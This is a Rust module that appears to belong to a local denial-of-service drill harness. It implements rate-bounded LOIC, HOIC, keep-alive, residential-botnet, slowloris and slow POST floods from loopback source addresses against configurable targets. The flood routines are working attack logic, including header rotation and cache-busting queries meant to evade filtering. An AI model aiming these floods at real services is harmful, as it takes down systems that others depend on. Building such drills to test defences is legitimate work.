//! Attackers, each from its own source address in 127.2.0.0/16, at a bounded rate, until
//! told to stop:
//! - LOIC (HTTP mode, as in 2010): a new TCP connection per request, `GET <path>` plus six
//!   random capital letters, HTTP/1.1, a Host header only, no User-Agent; the response is
//!   never read.
//! - HOIC-like: a new connection per request with rotating browser-like headers.
//! - smart: looks like browsers on keep-alive connections, random catalogue pages.
//! - residential: a residential-proxy botnet, sources four to a /24, each a browser's
//!   headers, the cookies it is given and one kept connection, searching for random words
//!   (nothing a cache can answer) and never fetching a page's assets.
//! - slowloris: connections that send request headers one line at a time, never finishing.
//! - slow POST: a large declared body trickled a byte at a time.

use crate::client::{self, connect_from};
use crate::measure::Recorder;
use crate::scenario::FloodKind;
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::net::SocketAddr;
use std::sync::atomic::Ordering::Relaxed;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::sync::{watch, Semaphore};

#[derive(Debug, Clone)]
pub(crate) struct Flood {
    pub(crate) kind: FloodKind,
    pub(crate) sources: u32,
    /// Requests (or, for slowloris and slow POST, new connections) per second in total.
    pub(crate) rate: u32,
    pub(crate) host: String,
    pub(crate) path: String,
    /// Where it is sent: each source address sticks to one of them (as DNS or anycast
    /// sends a client to one point of presence of a fleet).
    pub(crate) targets: Vec<SocketAddr>,
}

/// Attack requests in flight at most, so the drill stays within its file descriptors.
const MAX_IN_FLIGHT: usize = 4000;

/// The request line and headers a LOIC HTTP flood sent.
pub(crate) fn loic_request(path: &str, host: &str, rng: &mut impl Rng) -> String {
    let suffix: String = (0..6).map(|_| rng.gen_range(b'A'..=b'Z') as char).collect();
    format!("GET {path}{suffix} HTTP/1.1\r\nHost: {host}\r\n\r\n")
}

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/534.10 (KHTML, like Gecko) Chrome/8.0.552.224 Safari/534.10",
    "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.2.13) Gecko/20101203 Firefox/3.6.13",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
    "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.7.62 Version/11.00",
];
const REFERERS: &[&str] =
    &["http://www.google.com/?q=", "http://www.bing.com/search?q=", "http://www.facebook.com/", "http://twitter.com/"];

/// Runs a flood until `stop` turns true.
pub(crate) async fn run(flood: Flood, rec: Arc<Recorder>, stop: watch::Receiver<bool>) {
    if flood.kind == FloodKind::Residential {
        return residential(flood, rec, stop).await;
    }
    let permits = Arc::new(Semaphore::new(MAX_IN_FLIGHT));
    let mut rng = SmallRng::seed_from_u64(u64::from(flood.rate) ^ u64::from(flood.sources));
    // Ticks of 10 ms; carry fractions so low rates are exact.
    let per_tick = f64::from(flood.rate) / 100.0;
    let mut carry = 0.0;
    let mut next_source = 0u32;
    let mut tick = tokio::time::interval(Duration::from_millis(10));
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
    let smart_conns = matches!(flood.kind, FloodKind::Smart).then(|| Arc::new(tokio::sync::Mutex::new(Vec::new())));
    while !*stop.borrow() {
        tick.tick().await;
        carry += per_tick;
        let n = carry.floor() as u32;
        carry -= f64::from(n);
        for _ in 0..n {
            let Ok(permit) = permits.clone().try_acquire_owned() else {
                rec.flood_failed.fetch_add(1, Relaxed); // the drill itself is saturated
                continue;
            };
            let index = next_source % flood.sources;
            let src = client::source_addr(2, index);
            let Some(&dst) = flood.targets.get(index as usize % flood.targets.len().max(1)) else { return };
            next_source = next_source.wrapping_add(1);
            let f = flood.clone();
            let rec = rec.clone();
            let seed = rng.gen::<u64>();
            let stop = stop.clone();
            let smart = smart_conns.clone();
            tokio::spawn(async move {
                let mut rng = SmallRng::seed_from_u64(seed);
                let ok = match f.kind {
                    FloodKind::Loic => loic(&f, src, dst, &mut rng).await,
                    FloodKind::Hoic => hoic(&f, src, dst, &mut rng).await,
                    FloodKind::Smart => smart_request(&f, src, dst, &mut rng, smart).await,
                    FloodKind::Slowloris => slow(&f, src, dst, false, &rec, stop).await,
                    FloodKind::SlowPost => slow(&f, src, dst, true, &rec, stop).await,
                    // Sources of their own, each on its own pace: `residential`, above.
                    FloodKind::Residential => false,
                };
                rec.flood_sent.fetch_add(1, Relaxed);
                if !ok {
                    rec.flood_failed.fetch_add(1, Relaxed);
                }
                drop(permit);
            });
        }
    }
}

async fn loic(f: &Flood, src: std::net::Ipv4Addr, dst: SocketAddr, rng: &mut SmallRng) -> bool {
    let Ok(Ok(mut s)) = tokio::time::timeout(Duration::from_secs(2), connect_from(src, dst)).await else {
        return false;
    };
    let ok = s.write_all(loic_request(&f.path, &f.host, rng).as_bytes()).await.is_ok();
    // LOIC never reads the answer: the socket is closed at once.
    ok
}

async fn hoic(f: &Flood, src: std::net::Ipv4Addr, dst: SocketAddr, rng: &mut SmallRng) -> bool {
    let Ok(Ok(mut s)) = tokio::time::timeout(Duration::from_secs(2), connect_from(src, dst)).await else {
        return false;
    };
    let req = format!(
        "GET {}?{} HTTP/1.1\r\nHost: {}\r\nUser-Agent: {}\r\nReferer: {}{}\r\nAccept: */*\r\nConnection: close\r\n\r\n",
        f.path,
        rng.gen::<u32>(),
        f.host,
        AGENTS[rng.gen_range(0..AGENTS.len())],
        REFERERS[rng.gen_range(0..REFERERS.len())],
        rng.gen::<u16>()
    );
    if s.write_all(req.as_bytes()).await.is_err() {
        return false;
    }
    let mut buf = [0u8; 4096];
    matches!(tokio::time::timeout(Duration::from_secs(5), tokio::io::AsyncReadExt::read(&mut s, &mut buf)).await, Ok(Ok(n)) if n > 0)
}

/// Words a botnet searches for, two at a time with a number: every search its own.
const WORDS: &[&str] = &["zug", "baer", "atlas", "stern", "kerze", "muetze", "schal", "buch", "lampe", "tasse"];

/// The residential botnet: one task per source, each at its share of the rate, on its own
/// kept connection with its own cookies, until `stop`.
async fn residential(flood: Flood, rec: Arc<Recorder>, stop: watch::Receiver<bool>) {
    let sources = flood.sources.max(1);
    let every = Duration::from_secs_f64(f64::from(sources) / f64::from(flood.rate.max(1)));
    let tasks: Vec<_> = (0..sources)
        .map(|k| {
            let (f, rec, stop) = (flood.clone(), rec.clone(), stop.clone());
            tokio::spawn(async move {
                // Four to a /24 in the attack range (127.2.0.0/16).
                let src = std::net::Ipv4Addr::new(127, 2, (k / 4 % 250) as u8, (k % 4 + 1) as u8);
                let Some(&dst) = f.targets.get(k as usize % f.targets.len().max(1)) else { return };
                let mut rng = SmallRng::seed_from_u64(u64::from(k) * 7919 + 1);
                let mut tick = tokio::time::interval(every);
                tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
                // Not all at once: each source starts somewhere in its first interval.
                tokio::time::sleep(every.mul_f64(rng.gen::<f64>())).await;
                let (mut conn, mut jar) = (None, client::Jar::default());
                while !*stop.borrow() {
                    tick.tick().await;
                    let q = format!(
                        "{}+{}+{}",
                        WORDS[rng.gen_range(0..WORDS.len())],
                        WORDS[rng.gen_range(0..WORDS.len())],
                        rng.gen::<u32>()
                    );
                    let ok = botnet_search(&f, src, dst, &q, &mut conn, &mut jar).await;
                    rec.flood_sent.fetch_add(1, Relaxed);
                    if !ok {
                        rec.flood_failed.fetch_add(1, Relaxed);
                    }
                }
            })
        })
        .collect();
    for t in tasks {
        let _ = t.await;
    }
}

/// One search of the residential botnet, as a browser sends it.
async fn botnet_search(
    f: &Flood,
    src: std::net::Ipv4Addr,
    dst: SocketAddr,
    q: &str,
    conn: &mut Option<hyper::client::conn::http1::SendRequest<Full<Bytes>>>,
    jar: &mut client::Jar,
) -> bool {
    let mut c = match conn.take() {
        Some(c) if !c.is_closed() => c,
        _ => match client::http1_from(src, dst).await {
            Ok(c) => c,
            Err(_) => return false,
        },
    };
    if c.ready().await.is_err() {
        return false;
    }
    let mut req = http::Request::get(format!("/search?q={q}"))
        .header("host", &f.host)
        .header("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36")
        .header("accept", "text/html,application/xhtml+xml,*/*;q=0.8")
        .header("accept-language", "de-DE,de;q=0.9")
        .header("accept-encoding", "gzip, br");
    if let Some(cookies) = jar.header() {
        req = req.header("cookie", cookies);
    }
    let Ok(req) = req.body(Full::new(Bytes::new())) else { return false };
    let ok = match tokio::time::timeout(Duration::from_secs(5), c.send_request(req)).await {
        Ok(Ok(resp)) => {
            jar.take(resp.headers());
            resp.into_body().collect().await.is_ok()
        }
        _ => false,
    };
    if ok {
        *conn = Some(c);
    }
    ok
}

type SmartPool = Option<Arc<tokio::sync::Mutex<Vec<hyper::client::conn::http1::SendRequest<Full<Bytes>>>>>>;

async fn smart_request(
    f: &Flood,
    src: std::net::Ipv4Addr,
    dst: SocketAddr,
    rng: &mut SmallRng,
    pool: SmartPool,
) -> bool {
    let reuse = match &pool {
        Some(p) => p.lock().await.pop(),
        None => None,
    };
    let mut conn = match reuse {
        Some(c) if !c.is_closed() => c,
        _ => match client::http1_from(src, dst).await {
            Ok(c) => c,
            Err(_) => return false,
        },
    };
    if conn.ready().await.is_err() {
        return false;
    }
    let path = match rng.gen_range(0..3) {
        0 => format!("/p/{}", rng.gen_range(1..=12)),
        1 => format!("/search?q={}", rng.gen::<u32>()),
        _ => "/".to_string(),
    };
    let Ok(req) = http::Request::get(path)
        .header("host", &f.host)
        .header("user-agent", AGENTS[rng.gen_range(0..AGENTS.len())])
        .header("accept", "text/html,application/xhtml+xml,*/*;q=0.8")
        .header("accept-language", "en-US,en;q=0.5")
        .body(Full::new(Bytes::new()))
    else {
        return false;
    };
    let ok = match tokio::time::timeout(Duration::from_secs(5), conn.send_request(req)).await {
        Ok(Ok(resp)) => resp.into_body().collect().await.is_ok(),
        _ => false,
    };
    if ok {
        if let Some(p) = pool {
            let mut p = p.lock().await;
            if p.len() < 256 {
                p.push(conn);
            }
        }
    }
    ok
}

/// Slowloris (headers never end) or slow POST (body trickles): holds a connection open as
/// long as the server lets it, sending a little every few seconds; counts it as open.
async fn slow(
    f: &Flood,
    src: std::net::Ipv4Addr,
    dst: SocketAddr,
    post: bool,
    rec: &Recorder,
    mut stop: watch::Receiver<bool>,
) -> bool {
    let Ok(Ok(mut s)) = tokio::time::timeout(Duration::from_secs(2), connect_from(src, dst)).await else {
        return false;
    };
    let head = if post {
        format!("POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n", f.path, f.host)
    } else {
        format!("GET {} HTTP/1.1\r\nHost: {}\r\nUser-Agent: Mozilla/5.0\r\n", f.path, f.host)
    };
    if s.write_all(head.as_bytes()).await.is_err() {
        return false;
    }
    rec.attack_open.fetch_add(1, Relaxed);
    let mut held = true;
    for i in 0..60u32 {
        tokio::select! {
            _ = tokio::time::sleep(Duration::from_secs(3)) => {}
            _ = stop.changed() => break,
        }
        if *stop.borrow() {
            break;
        }
        let more = if post { b"a".to_vec() } else { format!("X-a{i}: b\r\n").into_bytes() };
        if s.write_all(&more).await.is_err() {
            held = false;
            break;
        }
    }
    rec.attack_open.fetch_sub(1, Relaxed);
    held
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn loic_request_has_the_2010_shape() {
        let mut rng = SmallRng::seed_from_u64(1);
        let r = loic_request("/checkout", "shop.de", &mut rng);
        let (line, rest) = r.split_once("\r\n").unwrap();
        let target = line.strip_prefix("GET ").unwrap().strip_suffix(" HTTP/1.1").unwrap();
        let suffix = target.strip_prefix("/checkout").unwrap();
        assert_eq!(suffix.len(), 6);
        assert!(suffix.bytes().all(|b| b.is_ascii_uppercase()));
        assert_eq!(rest, "Host: shop.de\r\n\r\n", "a Host header only: no User-Agent, nothing else");
    }
}
